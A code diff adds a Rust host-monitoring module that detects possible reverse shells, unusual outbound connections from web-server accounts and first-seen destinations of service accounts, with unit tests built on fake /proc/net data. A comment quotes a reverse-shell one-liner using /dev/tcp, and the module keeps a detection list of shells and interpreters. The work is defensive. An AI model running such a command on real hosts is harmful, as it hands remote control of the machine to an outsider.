@@ -0,0 +1,356 @@
+use std::collections::{HashMap, HashSet};
+use std::net::{IpAddr, SocketAddr};
+use std::sync::Arc;
+
+use crate::lara_core::core_enums::*;
+use crate::lara_core::core_structs::*;
+use crate::lara_core::core_traits::AnalysisModule;
+use crate::linux_bridge::network::{parse_proc_net, SocketEntry, SOCKET_TABLES};
+use crate::linux_bridge::process::ProcessInfo;
+use crate::linux_bridge::source::{LinuxSource, SystemSource};
+
+// Accounts below this uid belong to services, which talk to a small fixed set of hosts
+const FIRST_HUMAN_UID: u32 = 1000;
+
+// pid and start time together, pids get reused so the pid alone doesn't identify a process between ticks
+type ProcessKey = (u32, u64);
+
+// An established connection this host started, with the process holding it if it could be found
+#[derive(Debug, Clone)]
+struct Connection {
+    socket: SocketEntry,
+    process: Option<ProcessInfo>,
+}
+
+#[derive(Debug, Clone, Default)]
+struct CurrentData {
+    connections: Vec<Connection>,
+    // Shells and interpreters with stdin, stdout or stderr on a network connection, paired with that connection
+    socket_shells: Vec<(ProcessInfo, SocketEntry)>,
+}
+
+pub struct OutboundConnections {
+    // This is the data generated by gatherData in current tick, it will be erased by the next tick
+    current_data: CurrentData,
+    //Everything else is persistent memory. The data you set in these will be remembered between ticks
+    reported_shells: HashSet<ProcessKey>,
+    reported_web: HashSet<(ProcessKey, SocketAddr)>,
+    // (user, remote address, remote port) seen from service accounts. None until the first tick has learnt them
+    service_destinations: Option<HashSet<(u32, IpAddr, u16)>>,
+    shells: Vec<String>,
+    web_users: Vec<String>,
+    web_allowed_ports: HashSet<u16>,
+    module_name: String,
+    source: Arc<dyn SystemSource>,
+    failures: Vec<Log>,
+}
+
+impl AnalysisModule for OutboundConnections {
+    fn get_data(&mut self) -> bool {
+        let mut sockets = Vec::new();
+        for (protocol, path) in SOCKET_TABLES {
+            match self.source.read_to_string(path) {
+                Ok(table) => sockets.extend(parse_proc_net(&table, protocol)),
+                // tcp6 and udp6 are missing when IPv6 is disabled
+                Err(ChromiaError::Io(e)) if e.kind() == std::io::ErrorKind::NotFound && protocol.ends_with('6') => {}
+                Err(e) => {
+                    self.failures.push(Log::ids_failure(self.module_name.clone(), &format!("Failed to read {}", path), &e));
+                    return false;
+                }
+            }
+        }
+        // A connection to one of our own listening ports was started by the other end
+        let listening_ports: HashSet<(char, u16)> = sockets.iter().filter(|socket| socket.is_listening()).map(|socket| (family(socket), socket.local_port)).collect();
+        let by_inode: HashMap<u64, SocketEntry> = sockets.into_iter().map(|socket| (socket.inode, socket)).collect();
+
+        let processes: HashMap<u32, ProcessInfo> = self.source.processes().into_iter().map(|process| (process.pid, process)).collect();
+        let mut owners: HashMap<u64, &ProcessInfo> = HashMap::new();
+        let mut socket_shells = Vec::new();
+        for (pid, fds) in self.source.socket_fds() {
+            let process = match processes.get(&pid) {
+                Some(process) => process,
+                None => continue,
+            };
+            for (_, inode) in &fds {
+                owners.entry(*inode).or_insert(process);
+            }
+            // A shell reading its commands from a connection is what every reverse shell looks like: bash -i >& /dev/tcp/host/port 0>&1
+            // Unix sockets (Eg journald on stdout) aren't in by_inode, and php-fpm has its listening socket on fd 0
+            if matches_prefix(&process.name, &self.shells) {
+                let connection = fds.iter().filter(|(fd, _)| *fd <= 2).filter_map(|(_, inode)| by_inode.get(inode)).find(|socket| socket.is_established());
+                if let Some(socket) = connection {
+                    socket_shells.push((process.clone(), socket.clone()));
+                }
+            }
+        }
+        let mut connections: Vec<Connection> = by_inode
+            .values()
+            .filter(|socket| socket.is_established() && socket.protocol.starts_with("tcp") && !listening_ports.contains(&(family(socket), socket.local_port)))
+            .map(|socket| Connection {
+                socket: socket.clone(),
+                process: owners.get(&socket.inode).map(|process| (*process).clone()),
+            })
+            .collect();
+        connections.sort_by_key(|connection| (connection.socket.remote_addr, connection.socket.remote_port, connection.socket.inode));
+        socket_shells.sort_by_key(|(process, _)| process.pid);
+        self.current_data = CurrentData { connections, socket_shells };
+        true
+    }
+
+    fn get_testing_data(&mut self) -> bool {
+        todo!()
+    }
+
+    fn perform_analysis(&mut self) -> Vec<Log> {
+        let mut results = std::mem::take(&mut self.failures);
+        let current = std::mem::take(&mut self.current_data);
+
+        let mut live_processes: HashSet<ProcessKey> = HashSet::new();
+        for (process, socket) in &current.socket_shells {
+            live_processes.insert(key(process));
+            if !self.reported_shells.insert(key(process)) {
+                continue;
+            }
+            results.push(Log::new(
+                LogType::Critical,
+                self.module_name.clone(),
+                format!(
+                    "Possible reverse shell: '{}' has its input or output connected to {} ({})",
+                    process.name,
+                    SocketAddr::new(socket.remote_addr, socket.remote_port),
+                    self.describe(process)
+                ),
+            ));
+        }
+
+        let mut destinations = HashSet::new();
+        for connection in &current.connections {
+            let socket = &connection.socket;
+            let remote = SocketAddr::new(socket.remote_addr, socket.remote_port);
+            // Local databases and caches are normal for every kind of account
+            if socket.remote_addr.is_loopback() {
+                continue;
+            }
+            if let Some(process) = &connection.process {
+                live_processes.insert(key(process));
+                let web_user = self.source.username(process.uid).is_some_and(|user| self.web_users.contains(&user));
+                if web_user && !self.web_allowed_ports.contains(&socket.remote_port) && self.reported_web.insert((key(process), remote)) {
+                    results.push(Log::new(
+                        LogType::Serious,
+                        self.module_name.clone(),
+                        format!("Web server account connected out to {} on a non-standard port ({})", remote, self.describe(process)),
+                    ));
+                }
+            }
+            if socket.uid > 0 && socket.uid < FIRST_HUMAN_UID {
+                destinations.insert((socket.uid, socket.remote_addr, socket.remote_port));
+            }
+        }
+
+        match &mut self.service_destinations {
+            Some(known) => {
+                let mut new_destinations: Vec<&(u32, IpAddr, u16)> = destinations.iter().filter(|destination| !known.contains(*destination)).collect();
+                new_destinations.sort();
+                for (uid, addr, port) in new_destinations {
+                    let user = self.source.username(*uid).unwrap_or_else(|| uid.to_string());
+                    let process = current
+                        .connections
+                        .iter()
+                        .find(|connection| connection.socket.uid == *uid && connection.socket.remote_addr == *addr && connection.socket.remote_port == *port)
+                        .and_then(|connection| connection.process.as_ref())
+                        .map(|process| format!(" by {} (pid {})", process.name, process.pid))
+                        .unwrap_or_default();
+                    results.push(Log::new(
+                        LogType::Warning,
+                        self.module_name.clone(),
+                        format!("Service account '{}' connected to {} for the first time{}", user, SocketAddr::new(*addr, *port), process),
+                    ));
+                }
+                known.extend(destinations);
+            }
+            // Where services already talk to when Chromia starts is taken as normal
+            None => self.service_destinations = Some(destinations),
+        }
+
+        self.reported_shells.retain(|process| live_processes.contains(process));
+        self.reported_web.retain(|(process, _)| live_processes.contains(process));
+        results
+    }
+
+    fn get_name(&self) -> String {
+        self.module_name.clone()
+    }
+
+    fn build_config_fields(&self) -> Vec<ConfigField> {
+        let mut ports: Vec<String> = self.web_allowed_ports.iter().map(|port| port.to_string()).collect();
+        ports.sort();
+        vec![
+            ConfigField::new("Shells".to_owned(), "Shells and interpreters that should never have a network socket as their input or output (matched by prefix)".to_owned(), ConfigFieldType::String, self.shells.clone(), true),
+            ConfigField::new("WebUsers".to_owned(), "Accounts web servers and web apps run as".to_owned(), ConfigFieldType::String, self.web_users.clone(), true),
+            ConfigField::new("WebAllowedPorts".to_owned(), "Remote ports web server accounts may connect out to, Eg DNS, HTTP(S) and database ports".to_owned(), ConfigFieldType::Integer, ports, true),
+        ]
+    }
+
+    fn retrieve_config_data(&mut self, data: HashMap<String, Vec<String>>) -> bool {
+        for (field, vals) in data {
+            let vals: Vec<String> = vals.into_iter().filter(|val| !val.is_empty()).collect();
+            match field.as_str() {
+                "Shells" => self.shells = vals,
+                "WebUsers" => self.web_users = vals,
+                "WebAllowedPorts" => {
+                    let mut ports = HashSet::new();
+                    for val in vals {
+                        match val.parse::<u16>() {
+                            Ok(port) => {
+                                ports.insert(port);
+                            }
+                            Err(_) => {
+                                println!("WebAllowedPorts must be a list of port numbers, '{}' is not one", val);
+                                return false;
+                            }
+                        }
+                    }
+                    self.web_allowed_ports = ports;
+                }
+                _ => {}
+            }
+        }
+        true
+    }
+}
+
+impl OutboundConnections {
+    pub fn with_source(source: Arc<dyn SystemSource>) -> Self {
+        Self {
+            source,
+            ..Default::default()
+        }
+    }
+
+    fn describe(&self, process: &ProcessInfo) -> String {
+        let user = self.source.username(process.uid).unwrap_or_else(|| process.uid.to_string());
+        format!("pid {} ppid {} user {} cmd '{}'", process.pid, process.ppid, user, process.command_line())
+    }
+}
+
+fn key(process: &ProcessInfo) -> ProcessKey {
+    (process.pid, process.start_time)
+}
+
+// Listening ports are per address family, tcp and tcp6 can each have their own port 22
+fn family(socket: &SocketEntry) -> char {
+    if socket.protocol.ends_with('6') {
+        '6'
+    } else {
+        '4'
+    }
+}
+
+fn matches_prefix(name: &str, prefixes: &[String]) -> bool {
+    prefixes.iter().any(|prefix| name.starts_with(prefix.as_str()))
+}
+
+impl Default for OutboundConnections {
+    fn default() -> Self {
+        Self {
+            current_data: CurrentData::default(),
+            reported_shells: HashSet::new(),
+            reported_web: HashSet::new(),
+            service_destinations: None,
+            shells: ["sh", "bash", "dash", "zsh", "ksh", "python", "perl", "ruby", "php", "lua"].iter().map(|&s| s.to_string()).collect(),
+            web_users: ["www-data", "apache", "nginx", "http", "lighttpd", "tomcat"].iter().map(|&s| s.to_string()).collect(),
+            web_allowed_ports: [53, 80, 443, 3306, 5432, 6379].into_iter().collect(),
+            module_name: String::from("OutboundConnections"),
+            source: Arc::new(LinuxSource::default()),
+            failures: Vec::new(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::linux_bridge::source::FakeSource;
+
+    const HEADER: &str = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
+    // sshd listening on 22, an inbound ssh session, and www-data (uid 33) connected out to 203.0.113.7:4444
+    const TCP: &str = "   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 21034 1 0000000000000000 100 0 0 10 0\n   1: 0A00000A:0016 0B00000A:D431 01 00000000:00000000 02:000A7A1B 00000000     0        0 30001 4 0000000000000000 20 4 1 10 -1\n   2: 0A00000A:9C40 077100CB:115C 01 00000000:00000000 00:00000000 00000000    33        0 30002 1 0000000000000000 20 4 1 10 -1\n";
+
+    fn fake_process(pid: u32, ppid: u32, name: &str, uid: u32) -> ProcessInfo {
+        ProcessInfo::fake(pid, name).with_ppid(ppid).with_uid(uid).with_argv(&[name]).with_exe(&format!("/usr/bin/{}", name))
+    }
+
+    fn fake_host() -> Arc<FakeSource> {
+        let source = Arc::new(FakeSource::new());
+        source.add_user(0, "root");
+        source.add_user(33, "www-data");
+        source.set_file("/proc/net/tcp", &format!("{}{}", HEADER, TCP));
+        source.set_file("/proc/net/udp", HEADER);
+        source.set_processes(vec![fake_process(700, 1, "sshd", 0), fake_process(800, 1, "apache2", 33), fake_process(4410, 800, "bash", 33)]);
+        source.set_socket_fd(700, 3, 21034);
+        source.set_socket_fd(700, 4, 30001);
+        for fd in 0..3 {
+            source.set_socket_fd(4410, fd, 30002);
+        }
+        source
+    }
+
+    #[test]
+    fn test_reverse_shell_from_web_server() {
+        let source = fake_host();
+        let mut monitor = OutboundConnections::with_source(source);
+        assert!(monitor.get_data());
+        // The inbound ssh session is not an outbound connection
+        assert_eq!(monitor.current_data.connections.len(), 1);
+
+        let alerts: Vec<String> = monitor.perform_analysis().iter().map(|log| log.build_alert()).collect();
+        assert_eq!(alerts.len(), 2);
+        assert!(alerts[0].contains("[CRITICAL]") && alerts[0].contains("Possible reverse shell: 'bash' has its input or output connected to 203.0.113.7:4444"));
+        assert!(alerts[1].contains("[Serious]") && alerts[1].contains("Web server account connected out to 203.0.113.7:4444 on a non-standard port (pid 4410 ppid 800 user www-data"));
+
+        assert!(monitor.get_data());
+        assert!(monitor.perform_analysis().is_empty());
+    }
+
+    #[test]
+    fn test_first_seen_destination_for_service_account() {
+        let source = fake_host();
+        source.set_processes(vec![fake_process(700, 1, "sshd", 0), fake_process(900, 1, "ntpd", 33)]);
+        let mut monitor = OutboundConnections::with_source(source.clone());
+        monitor.web_users.clear();
+        assert!(monitor.get_data());
+        assert!(monitor.perform_analysis().is_empty());
+
+        source.set_file("/proc/net/tcp", &format!("{}{}   3: 0A00000A:9C41 08080808:0035 01 00000000:00000000 00:00000000 00000000    33        0 30003 1 0000000000000000 20 4 1 10 -1\n", HEADER, TCP));
+        source.set_socket_fd(900, 5, 30003);
+        assert!(monitor.get_data());
+        let logs = monitor.perform_analysis();
+        assert_eq!(logs.len(), 1);
+        assert_eq!(logs[0].message, "Service account 'www-data' connected to 8.8.8.8:53 for the first time by ntpd (pid 900)");
+    }
+
+    #[test]
+    fn test_shell_on_unix_socket_is_not_a_reverse_shell() {
+        let source = fake_host();
+        source.set_processes(vec![fake_process(700, 1, "sshd", 0), fake_process(4500, 1, "bash", 0)]);
+        // stdout and stderr going to journald
+        source.set_socket_fd(4500, 1, 50001);
+        source.set_socket_fd(4500, 2, 50001);
+        let mut monitor = OutboundConnections::with_source(source);
+        assert!(monitor.get_data());
+        assert!(monitor.current_data.socket_shells.is_empty());
+    }
+
+    #[test]
+    fn test_listening_socket_on_stdin_is_not_a_reverse_shell() {
+        let source = fake_host();
+        source.set_file("/proc/net/tcp", &format!("{}{}   3: 0100007F:2328 00000000:0000 0A 00000000:00000000 00:00000000 00000000    33        0 30010 1 0000000000000000 100 0 0 10 0\n", HEADER, TCP));
+        source.set_processes(vec![fake_process(700, 1, "sshd", 0), fake_process(4600, 1, "php-fpm8.2", 33)]);
+        // php-fpm workers get the FastCGI listening socket as fd 0
+        source.set_socket_fd(4600, 0, 30010);
+        let mut monitor = OutboundConnections::with_source(source);
+        assert!(monitor.get_data());
+        assert!(monitor.current_data.socket_shells.is_empty());
+        assert!(monitor.perform_analysis().is_empty());
+    }
+}